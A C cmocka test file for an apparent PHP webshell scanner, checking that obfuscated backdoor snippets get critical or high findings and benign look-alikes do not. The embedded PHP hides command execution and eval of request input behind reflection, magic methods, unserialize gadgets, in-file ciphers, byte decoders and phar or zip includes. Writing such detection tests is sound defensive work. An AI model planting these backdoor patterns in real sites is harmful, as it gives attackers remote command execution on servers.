/* The PHP analysis, train8 round (branch fix8-web): the Reflection API
 * reached through ReflectionClass('ReflectionFunction'), a Closure of an
 * input name called by ->__invoke/->call, a callable table picked by an
 * (int) of input, magic methods (__get with the property's name, __callStatic
 * through [C::class, 'm'], a gadget class let in by unserialize's
 * allowed_classes); ciphers with the key in the file, byte loops (bit
 * rotation, unpack with an index key, base32), a session the file fills from
 * the request, archives and stream wrappers that hide the included code.
 * Every snippet is written here from the technique, not
 * taken from a sample; the look-alikes must stay below high. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "php_expect.h"
#include "scan/php_analyze.h"

static void test_reflection(void **state)
{
	(void)state;
	expect("<?php\n"
	       "$rc = new ReflectionClass('ReflectionFunction');\n"
	       "$fn = $rc->newInstanceArgs([base64_decode($_REQUEST['q'])]);\n"
	       "$fn->invoke($_REQUEST['z']);\n",
	       "php.dynamic_call_input", HS_SEV_CRITICAL);
	expect("<?php\n"
	       "$k = new \\ReflectionClass(\\ReflectionFunction::class);\n"
	       "$obj = $k->newInstance($_POST['n']);\n"
	       "echo $obj->invokeArgs([$_POST['m']]);\n",
	       "php.dynamic_call_input", HS_SEV_CRITICAL);
	expect("<?php\n"
	       "$cl = Closure::fromCallable(str_rot13($_COOKIE['a'] ?? ''));\n"
	       "print $cl->__invoke($_COOKIE['b'] ?? '');\n",
	       "php.dynamic_call_input", HS_SEV_CRITICAL);
	expect("<?php\n"
	       "$h = \\Closure::fromCallable($_SERVER['HTTP_X_F']);\n"
	       "$r = $h->call(new stdClass, $_SERVER['HTTP_X_A']);\n",
	       "php.dynamic_call_input", HS_SEV_CRITICAL);
}

static void test_tables(void **state)
{
	(void)state;
	expect("<?php\n"
	       "$dec = base64_decode(...);\n"
	       "$names = array_map($dec, ['c3lzdGVt', 'cGFzc3RocnU=']);\n"
	       "$run = $names[(int)($_GET['i'] ?? 0)](...);\n"
	       "$run($_GET['c'] ?? 'id');\n",
	       "php.input_to_command", HS_SEV_CRITICAL);
}

static void test_magic(void **state)
{
	(void)state;
	expect("<?php\n"
	       "class Kv { private $arg;\n"
	       " function __construct($a) { $this->arg = $a; }\n"
	       " function __get($name) { return $name($this->arg); } }\n"
	       "$o = new Kv($_REQUEST['q']);\n"
	       "echo $o->{'pass' . 'thru'};\n",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php\n"
	       "class Bag { public $data = [];\n"
	       " public function __get($k) { return call_user_func($k, $this->data); } }\n"
	       "$b = new Bag();\n"
	       "$b->data = $_COOKIE['d'];\n"
	       "$n = str_rot13('flfgrz');\n"
	       "print $b->$n;\n",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php\n"
	       "class Gad { public $cb = 'strlen'; public $arg = '';\n"
	       " public function __wakeup() { call_user_func($this->cb, $this->arg); } }\n"
	       "$x = unserialize(gzinflate(base64_decode($_POST['p'])), ['allowed_classes' => "
	       "[Gad::class]]);\n",
	       "php.dynamic_call_input", HS_SEV_CRITICAL);
	expect("<?php\n"
	       "class Tpl { public $fn = 'trim'; public $v = '';\n"
	       " function __toString() { return (string) ($this->fn)($this->v); } }\n"
	       "$t = unserialize($_COOKIE['t'], ['allowed_classes' => ['Tpl']]);\n"
	       "echo $t;\n",
	       "php.dynamic_call_input", HS_SEV_CRITICAL);
	expect("<?php class Zq { public static function __callStatic($m, $a) { $m = strrev($m); "
	       "return $m(...$a); } }\n"
	       "echo [Zq::class, 'metsys']($_POST['c']);\n",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php class Zr { public function __call($m, $a) { $f = str_replace('_', '', $m); "
	       "return $f($a[0]); } }\n"
	       "$z = new Zr; echo $z->sys_tem($_GET['c']);\n",
	       "php.input_to_command", HS_SEV_CRITICAL);
}

static void test_lookalikes(void **state)
{
	(void)state;
	not_high("<?php\n"
	         "$rc = new ReflectionClass('ReflectionFunction');\n"
	         "$fn = $rc->newInstanceArgs(['strtolower']);\n"
	         "echo $fn->invoke('ABC');\n"
	         "$c = Closure::fromCallable('strtoupper');\n"
	         "echo $c->__invoke($_GET['name'] ?? '');\n");
	not_high("<?php\n"
	         "class Cfg { private $vals = [];\n"
	         " function __get($k) { return $this->vals[$k] ?? null; }\n"
	         " function __set($k, $v) { $this->vals[$k] = $v; } }\n"
	         "$c = new Cfg; $c->title = $_GET['t'] ?? ''; echo htmlspecialchars($c->title);\n");
	not_high(
	    "<?php\n"
	    "class Money { public $amount = 0; public $cur = 'EUR';\n"
	    " function __toString() { return sprintf('%d %s', $this->amount, $this->cur); } }\n"
	    "$m = unserialize($_COOKIE['cart'] ?? '', ['allowed_classes' => ['Money']]);\n"
	    "echo $m;\n");
}

static void test_ciphers(void **state)
{
	(void)state;
	expect("<?php\n"
	       "$k = base64_decode('AAECAwQFBgcICQoLDA0ODw==');\n"
	       "$v = base64_decode('EBESExQVFhcYGRobHB0eHw==');\n"
	       "$code = openssl_decrypt(base64_decode('dIecAIS4K0rPXKtA29HBx8nlriOFJbk='), "
	       "'AES-128-CTR', $k, OPENSSL_RAW_DATA, $v);\n"
	       "assert($code) || eval($code);\n",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php\n"
	       "$out = "
	       "sodium_crypto_aead_chacha20poly1305_ietf_decrypt(hex2bin('"
	       "204f5d012ba8ed58f3e8c5d197c590c711d37fbcc2ec410ff33dfe3d50236cbaff151028ae239853'),"
	       " 'v1', hex2bin('91aa11e95a15671eb0fcb018'), "
	       "hex2bin('bf5b00df4c48b7e12842e5350123ed336234ca4248e049299b468014abd53a4f'));\n"
	       "if ($out !== false) eval($out);\n",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php\n"
	       "$msg = base64_decode($_SERVER['HTTP_X_DATA'] ?? '');\n"
	       "$plain = sodium_crypto_box_open($msg, "
	       "hex2bin('"
	       "9bfca495089181766bf954c530248d43e7f8d8a85fe2e260ec6c1b78b7f3f5d1dd2004d2a43e2753e5c"
	       "3df371e932fa251157a2c9af52539a2d8f77b8dced712'));\n"
	       "eval($plain);\n",
	       "php.input_to_eval", HS_SEV_CRITICAL);
}

static void test_byte_loops(void **state)
{
	(void)state;
	expect("<?php\n"
	       "$d = base64_decode('m8uboytrQSH6Oiqi2jkbOepJ2Q==');\n"
	       "$p = '';\n"
	       "for ($i = 0, $n = strlen($d); $i < $n; $i++) {\n"
	       "    $b = ord($d[$i]);\n"
	       "    $p .= chr((($b >> 3) | ($b << 5)) & 0xFF);\n"
	       "}\n"
	       "eval($p);\n",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php\n"
	       "$bytes = unpack('C*', hex2bin('574555591e13676975686866194e671c6b78'));\n"
	       "$s = '';\n"
	       "foreach ($bytes as $n => $b) { $s .= chr($b ^ ((49 + $n) & 255)); }\n"
	       "eval($s);\n",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php\n"
	       "function dec32($s) {\n"
	       "    $abc = 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567';\n"
	       "    $bin = '';\n"
	       "    foreach (str_split($s) as $c) { $bin .= str_pad(decbin(strpos($abc, $c)), 5, "
	       "'0', STR_PAD_LEFT); }\n"
	       "    $r = '';\n"
	       "    foreach (str_split($bin, 8) as $o) { if (strlen($o) == 8) { $r .= "
	       "chr(bindec($o)); } }\n"
	       "    return $r;\n"
	       "}\n"
	       "eval(dec32('ON4XG5DFNUUCIX2HIVKFWJ3DE5OSSOY'));\n",
	       "php.input_to_command", HS_SEV_CRITICAL);
}

static void test_session(void **state)
{
	(void)state;
	expect("<?php\n"
	       "session_start();\n"
	       "$b = $_SESSION['m'] ?? null;\n"
	       "if (is_array($b)) { echo call_user_func($b['h'], $b['v']); }\n"
	       "if (isset($_POST['s'])) { $_SESSION['m'] = json_decode($_POST['s'], true); }\n",
	       "php.dynamic_call_input", HS_SEV_CRITICAL);
	expect("<?php\n"
	       "$b = $_SESSION['m'];\n"
	       "$f = $b['h'];\n"
	       "$f($b['v']);\n"
	       "$_SESSION['m'] = $_POST['s'];\n",
	       "php.dynamic_call_input", HS_SEV_CRITICAL);
}

static void test_archives(void **state)
{
	(void)state;
	expect("<?php\n"
	       "class Ldr { public $context; private $b = ''; private $o = 0;\n"
	       " function stream_open($p, $m, $f, &$op) { $this->b = "
	       "file_get_contents('/tmp/.cache_x'); return true; }\n"
	       " function stream_read($n) { $r = substr($this->b, $this->o, $n); $this->o += "
	       "strlen($r); return $r; }\n"
	       " function stream_eof() { return $this->o >= strlen($this->b); }\n"
	       " function stream_stat() { return []; } }\n"
	       "stream_wrapper_register('mem2', 'Ldr');\n"
	       "require 'mem2://main';\n",
	       "php.wrapper_file_include", HS_SEV_HIGH);
	expect("<?php\n"
	       "$p = 'phar://' . dirname(__FILE__) . '/cache/icons.png/init.dat';\n"
	       "if (is_file($p)) include $p;\n",
	       "php.archive_payload_include", HS_SEV_HIGH);
	expect("<?php\n"
	       "$a = new ZipArchive;\n"
	       "if ($a->open(dirname(__FILE__) . '/lang.zip')) { $c = $a->getFromIndex(0); "
	       "eval($c); }\n",
	       "php.decoded_file_eval", HS_SEV_HIGH);
	expect("<?php\n"
	       "include_once 'zip://' . dirname(__FILE__) . '/assets/font.ttf#x/y.php';\n",
	       "php.archive_payload_include", HS_SEV_HIGH);
}

static void test_lookalikes2(void **state)
{
	(void)state;
	not_high("<?php\n"
	         "$cfg = openssl_decrypt('2qRyTH930u8PE8v5ATy4fQ==', 'aes-256-cbc', "
	         "hex2bin('6964999dfed8a34a82893d7ea2ab39b79f1399693400f45ec43d81260b29f567'), 0, "
	         "hex2bin('93710185016381877c6997432ce29cde'));\n"
	         "$s = json_decode($cfg, true);\n"
	         "echo htmlspecialchars($s['api'] ?? '');\n");
	not_high("<?php\n"
	         "session_start();\n"
	         "if (isset($_POST['user'])) { $_SESSION['user'] = trim($_POST['user']); }\n"
	         "echo 'Hello ' . htmlspecialchars($_SESSION['user'] ?? 'guest');\n");
	not_high("<?php\n"
	         "require 'phar://' . __DIR__ . '/lib/sdk.phar/vendor/autoload.php';\n");
	not_high("<?php\n"
	         "$z = new ZipArchive; $z->open(__DIR__ . '/export.zip'); $csv = "
	         "$z->getFromName('data.csv'); echo htmlspecialchars($csv);\n");
}

static void test_handlers(void **state)
{
	(void)state;
	expect("<?php\n"
	       "set_exception_handler(static function ($err) { echo "
	       "shell_exec($err->getMessage()); });\n"
	       "if (!empty($_REQUEST['q'])) { throw new \\LogicException($_REQUEST['q']); }\n",
	       "php.input_to_command", HS_SEV_CRITICAL);
	expect("<?php\n"
	       "function h($x) { eval($x->getMessage()); }\n"
	       "set_exception_handler('h');\n"
	       "throw new Exception(base64_decode($_COOKIE['p'] ?? ''));\n",
	       "php.input_to_eval", HS_SEV_CRITICAL);
	expect("<?php\n"
	       "class Ops { static function run($a) { return passthru($a); } static function "
	       "ping() { return 'pong'; } }\n"
	       "$m = 'Ops::' . strtolower(preg_replace('/\\W/', '', $_GET['op'] ?? 'ping'));\n"
	       "echo call_user_func($m, $_GET['arg'] ?? '');\n",
	       "php.input_to_command", HS_SEV_CRITICAL);
	not_high("<?php\n"
	         "set_exception_handler(function ($e) { error_log($e->getMessage()); echo "
	         "htmlspecialchars($e->getMessage()); });\n"
	         "if (!ctype_digit($_GET['id'] ?? '')) { throw new InvalidArgumentException('bad "
	         "id ' . $_GET['id']); }\n");
	not_high("<?php\n"
	         "class Views { static function home($q) { return '<h1>' . htmlspecialchars($q) . "
	         "'</h1>'; } static function about($q) { return 'about'; } }\n"
	         "$page = preg_replace('/[^a-z]/', '', $_GET['p'] ?? 'home');\n"
	         "echo call_user_func('Views::' . $page, $_GET['q'] ?? '');\n");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_reflection),  cmocka_unit_test(test_tables),
	    cmocka_unit_test(test_magic),       cmocka_unit_test(test_lookalikes),
	    cmocka_unit_test(test_ciphers),     cmocka_unit_test(test_byte_loops),
	    cmocka_unit_test(test_session),     cmocka_unit_test(test_archives),
	    cmocka_unit_test(test_lookalikes2), cmocka_unit_test(test_handlers),
	};
	int rc = cmocka_run_group_tests(tests, NULL, NULL);
	php_result_free(&res);
	return rc;
}
